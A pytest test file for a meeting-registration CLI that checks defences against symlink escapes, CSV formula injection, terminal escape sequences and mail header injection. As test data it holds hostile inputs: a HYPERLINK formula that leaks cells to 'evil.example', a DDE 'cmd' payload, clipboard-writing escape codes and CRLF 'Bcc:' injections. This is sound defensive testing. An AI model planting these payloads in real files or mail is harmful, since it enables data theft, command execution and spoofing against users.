"""A network folder from someone else, and text from a web form: links in the folder are not
followed, CSV cells stay text, the terminal shows names as text, mail headers stay headers."""

from __future__ import annotations

import csv
import io
import os
import shutil
import stat
from pathlib import Path

import pytest
from conftest import MEETING, samling

from samling.errors import InvalidInput

AFTER = "2026-03-13T10:00:00"  # the day after the net fixture's meeting
ESCAPES = "\x1b[2J\x1b]52;c;ZXZpbA==\x07\x1b]0;owned\x1b\\\x9b31m\u202e"


@pytest.fixture
def elsewhere(tmp_path: Path) -> Path:
    """A folder outside the network, where nothing may be written."""
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    (folder / "precious.txt").write_text("mine\n", encoding="utf-8")
    return folder


def _untouched(folder: Path) -> None:
    assert sorted(p.name for p in folder.rglob("*")) == ["precious.txt"]
    assert (folder / "precious.txt").read_text(encoding="utf-8") == "mine\n"


def _refused(*args: str) -> str:
    result = samling(*args, ok=False)
    assert result.exit_code == 5, result.output
    assert "symbolic link" in result.stderr
    assert len([line for line in result.stderr.splitlines() if line.startswith("error:")]) == 1
    return result.stderr


# --- no link followed ----------------------------------------------------------------------------


def test_a_linked_out_folder_is_refused(net: Path, elsewhere: Path) -> None:
    samling("register", "bjorn-odegard")
    (net / "meetings" / MEETING / "out").symlink_to(elsewhere, target_is_directory=True)
    assert "out" in _refused("invite")
    _refused("list")
    _untouched(elsewhere)


def test_a_linked_output_subfolder_is_refused(net: Path, elsewhere: Path) -> None:
    samling("register", "bjorn-odegard")
    (net / "meetings" / MEETING / "out").mkdir(exist_ok=True)
    (net / "meetings" / MEETING / "out" / "invitations").symlink_to(elsewhere, target_is_directory=True)
    _refused("invite")
    _untouched(elsewhere)


def test_a_linked_registrations_folder_is_refused(net: Path, elsewhere: Path) -> None:
    (net / "meetings" / MEETING / "registrations").symlink_to(elsewhere, target_is_directory=True)
    _refused("register", "bjorn-odegard")
    _untouched(elsewhere)


def test_registrations_read_through_a_link_are_refused(net: Path, tmp_path: Path) -> None:
    samling("register", "bjorn-odegard")
    folder = net / "meetings" / MEETING / "registrations"
    moved = tmp_path / "moved"
    folder.rename(moved)
    folder.symlink_to(moved, target_is_directory=True)
    _refused("registrations")
    _refused("status")


def test_a_linked_record_file_is_refused(net: Path, elsewhere: Path) -> None:
    record = net / "participants" / "bjorn-odegard.toml"
    target = elsewhere / "precious.txt"
    target.write_text(record.read_text(encoding="utf-8"), encoding="utf-8")
    original = target.read_bytes()
    record.unlink()
    record.symlink_to(target)
    _refused("participant", "show", "bjorn-odegard")
    _refused("participant", "edit", "bjorn-odegard", "--diet", "vegan")
    assert target.read_bytes() == original
    assert record.is_symlink()


def test_a_dangling_link_at_a_new_record_is_refused(net: Path, elsewhere: Path) -> None:
    registration = net / "meetings" / MEETING / "registrations" / "bjorn-odegard.toml"
    registration.parent.mkdir(exist_ok=True)
    registration.symlink_to(elsewhere / "planted.toml")
    samling("register", "bjorn-odegard", ok=False)
    _untouched(elsewhere)


def test_a_linked_minutes_file_is_refused(net: Path, elsewhere: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    samling("register", "bjorn-odegard")
    monkeypatch.setenv("SAMLING_NOW", AFTER)
    (net / "meetings" / MEETING / "minutes.md").symlink_to(elsewhere / "precious.txt")
    _refused("minutes", MEETING)
    _refused("minutes", MEETING, "--force")
    _untouched(elsewhere)
    assert not (net / "meetings" / MEETING / "out" / "minutes.replaced.md").exists()


def test_links_planted_at_temporary_names_are_never_written(net: Path, elsewhere: Path) -> None:
    samling("register", "bjorn-odegard")
    folder = net / "meetings" / MEETING / "out" / "invitations"
    folder.mkdir(parents=True)
    # the names the writer used to take (this process's pid), and mkstemp-like ones
    for name in ("bjorn-odegard.md", "bjorn-odegard.eml", "bjorn-odegard.html", "bjorn-odegard.ics"):
        (folder / f".{name}.{os.getpid()}.tmp").symlink_to(elsewhere / "precious.txt")
    samling("invite")
    _untouched(elsewhere)
    assert (folder / "bjorn-odegard.md").is_file() and not (folder / "bjorn-odegard.md").is_symlink()


def test_a_link_at_an_output_name_is_refused(net: Path, elsewhere: Path) -> None:
    samling("register", "bjorn-odegard")
    folder = net / "meetings" / MEETING / "out" / "invitations"
    folder.mkdir(parents=True)
    (folder / "bjorn-odegard.md").symlink_to(elsewhere / "precious.txt")
    _refused("invite")
    _untouched(elsewhere)


def test_a_link_above_the_network_is_the_users_business(tmp_path: Path) -> None:
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "via-link").symlink_to(real, target_is_directory=True)
    samling("init", str(tmp_path / "via-link" / "net"), "--name", "N")
    samling("--dir", str(tmp_path / "via-link" / "net"), "org", "add", "Växjö kommun")
    assert (real / "net" / "organizations" / "vaxjo-kommun.toml").is_file()


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o002, 0o664), (0o077, 0o600)])
def test_outputs_and_records_get_the_umask_mode(net: Path, umask: int, mode: int) -> None:
    old = os.umask(umask)
    try:
        samling("register", "bjorn-odegard")
        samling("invite")
    finally:
        os.umask(old)
    out = net / "meetings" / MEETING / "out" / "invitations"
    files = [*out.iterdir(), net / "meetings" / MEETING / "registrations" / "bjorn-odegard.toml"]
    assert files and all(stat.S_IMODE(p.stat().st_mode) == mode for p in files)


def test_no_temporary_file_is_left(net: Path) -> None:
    samling("register", "bjorn-odegard")
    samling("invite")
    assert not list(net.rglob("*.tmp"))


# --- text stays text -----------------------------------------------------------------------------


def _add_hostile(name: str, pid: str = "x") -> None:
    samling("participant", "add", "--email", f"{pid}@example.se", "--id", pid, "--org", "vaxjo-kommun", "--", name)
    samling("register", pid)


def test_a_spreadsheet_cell_never_starts_a_formula() -> None:
    from samling.outputs.writer import spreadsheet_cell

    for start in "=+-@\t\r":
        assert spreadsheet_cell(start + "1+1") == "'" + start + "1+1"
    assert spreadsheet_cell("Ada") == "Ada"
    assert spreadsheet_cell(450) == 450
    assert spreadsheet_cell("") == ""


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_never_start_a_formula(net: Path, start: str) -> None:
    name = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    _add_hostile(name)
    text = samling("registrations", "--csv").stdout
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))  # as Excel in Swedish
    assert [r["name"] for r in rows if r["participant"] == "x"] == ["'" + name]
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values() if v)


def test_followup_recipients_csv_is_inert(net: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _add_hostile("=cmd|' /C calc'!A0")
    monkeypatch.setenv("SAMLING_NOW", AFTER)
    samling("followup")
    data = (net / "meetings" / MEETING / "out" / "followup" / "recipients.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # for Excel, as every list: BOM, and ; in Swedish
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert "'=cmd|' /C calc'!A0" in [r["name"] for r in rows]
    assert {"participant", "name", "email", "language", "personal"} == set(rows[0])


def test_terminal_output_shows_names_as_text(net: Path) -> None:
    _add_hostile(f"Ada{ESCAPES} Lovelace")
    for args in (
        ("participant", "list"),
        ("participant", "show", "x"),
        ("registrations",),
    ):
        out = samling(*args).stdout
        assert "Lovelace" in out
        assert not any(c in out for c in "\x1b\x07\x9b\u202e"), (args, out)
    data = samling("participant", "show", "x", "--json")
    assert not any(c in data.stdout for c in "\x1b\x07\x9b\u202e")
    assert data.json()["name"] == "Ada Lovelace"  # left out when stored: nothing reaches mail or minutes


def test_mail_headers_stay_headers(net: Path) -> None:
    huge = "Å" * 180 + " \x00\x1b[2J Lovelace"  # a name is at most 200 characters
    _add_hostile(huge)
    samling("invite")
    eml = (net / "meetings" / MEETING / "out" / "invitations" / "x.eml").read_bytes()
    head = eml.split(b"\r\n\r\n", 1)[0]
    assert b"\x00" not in head and b"\x1b" not in head
    assert max(len(line) for line in eml.split(b"\r\n")) <= 998
    assert head.count(b"\r\nTo: ") == 1


def test_a_huge_subject_is_folded() -> None:
    from samling.outputs.mail import _subject

    lines = _subject("Ö" * 5000 + "\x00\r\nBcc: all@example.se").split(b"\r\n")
    assert max(len(line) for line in lines) <= 78
    assert all(line.startswith((b" ", b"=?")) for line in lines)


def test_an_address_with_a_nul_is_refused() -> None:
    from samling.outputs.mail import _address

    with pytest.raises(InvalidInput, match="control character"):
        _address("Ada", "ada\x00@example.se")
    with pytest.raises(InvalidInput):
        _address("Ada", "ada@example.se\r\nBcc: all@example.se")


def test_imported_cells_lose_their_control_characters(net: Path) -> None:
    Path("members.csv").write_text(
        "Namn;E-post;Organisation\nOla\x1b[2J Berg\x07;ola@example.se;Växjö kommun\n", encoding="utf-8"
    )
    samling("participant", "import", "members.csv")
    names = [p["name"] for p in samling("participant", "list", "--json").json()]  # type: ignore[union-attr]
    assert "Ola[2J Berg" in names


def test_a_fifo_as_record_does_not_hang(net: Path) -> None:
    from samling.errors import InvalidRecord
    from samling.store import Store

    os.mkfifo(net / "participants" / "ghost.toml")
    samling("participant", "list")  # not a file: not listed
    with pytest.raises(InvalidRecord, match=r"ghost\.toml: is not a file"):
        Store(net).participants.load("ghost")


def test_an_error_quoting_hostile_text_passes_no_escape_sequence_to_the_terminal(
    net: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A name typed or pasted from a web form, quoted back in an error: shown without its escapes
    (this one would clear the screen and put text on the clipboard)."""
    from samling.cli.boundary import report

    hostile = "\x1b[2J\x1b]52;c;ZXZpbA==\x07Åsa\x9b31m Öberg"
    report(InvalidInput(f"no seat for {hostile}", f"ask {hostile}"))
    shown = capsys.readouterr().err
    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown
    assert shown == "error: no seat for Åsa Öberg\nhint: ask Åsa Öberg\n"
    record = net / "participants" / "broken.toml"
    record.write_text('name = "x"\nemail = "x@example.se"\nbogus\x1b[31m = 1\n', encoding="utf-8")
    result = samling("check", ok=False)
    assert "\x1b" not in result.output


@pytest.mark.parametrize("linked", ["file", "language folder", "templates folder"])
def test_a_linked_template_is_refused_and_named_by_check(net: Path, elsewhere: Path, linked: str) -> None:
    """A template is text every participant's mail is made from: read only from a regular file
    inside the folder (a link to /etc/hostname would put that file into every list)."""
    samling("templates", "copy", "participants.md.j2")
    own = net / "templates" / "sv" / "participants.md.j2"
    outside = elsewhere / "sv"
    outside.mkdir()
    (outside / "participants.md.j2").write_text("UTANFÖR {{ 1 + 1 }}\n", encoding="utf-8")
    if linked == "file":
        own.unlink()
        own.symlink_to(outside / "participants.md.j2")
    elif linked == "language folder":
        shutil.rmtree(own.parent)
        own.parent.symlink_to(outside)
    else:
        shutil.rmtree(net / "templates")
        (net / "templates").symlink_to(elsewhere)
    result = samling("list", ok=False)
    assert result.exit_code == 5 and "symbolic link" in result.stderr
    assert not any("UTANFÖR" in p.read_text(encoding="utf-8") for p in net.rglob("*.md"))
    assert "samling reads no template through a link" in samling("check", ok=False).stdout


def test_a_linked_messages_catalog_is_refused(net: Path, elsewhere: Path) -> None:
    samling("templates", "copy", "messages")
    own = net / "templates" / "sv" / "messages.po"
    (elsewhere / "messages.po").write_bytes(own.read_bytes())
    own.unlink()
    own.symlink_to(elsewhere / "messages.po")
    result = samling("list", ok=False)
    assert result.exit_code == 5 and "symbolic link" in result.stderr


def test_a_template_including_a_file_that_is_no_template_is_one_line(net: Path) -> None:
    samling("templates", "copy", "participants.md.j2")
    (net / "templates" / "sv" / "participants.md.j2").write_text('{% include "hemligt.txt" %}\n', encoding="utf-8")
    result = samling("list", ok=False)
    assert "template includes 'hemligt.txt', which is no template" in result.stderr, result.stderr


def test_text_typed_on_the_command_line_is_kept_clean_and_within_bounds(net: Path) -> None:
    """What an import already does, every command does: escape sequences and control characters
    left out, a name on one line, a name at most 200 characters, a text at most 20,000."""
    added = samling(
        "participant", "add", "Evil\x1b]0;PWNED\x07\x1b[31mRED\x1b[0m Name\r\nBcc: x", "-e", "e@example.se", "--json"
    ).json()
    assert added["name"] == "EvilRED Name Bcc: x" and added["id"] == "evilred-name-bcc-x"
    samling("register", added["id"], "-q", "@SUM(1)\x1b[2J and \x9b31m more")
    question = (net / "meetings" / MEETING / "questions" / "1.toml").read_text(encoding="utf-8")
    assert "\\u001b" not in question and "\\u009b" not in question and "@SUM(1) and  more" in question
    too_long = samling("participant", "add", "Å" * 201, "-e", "long@example.se", ok=False)
    assert too_long.exit_code != 0 and "Traceback" not in too_long.output and "200" in too_long.stderr
    (net / "participants" / "hand.toml").write_text(f'name = "{"Ö" * 300}"\nemail = "h@example.se"\n')
    assert "participants/hand.toml: name:" in samling("check", ok=False).stdout
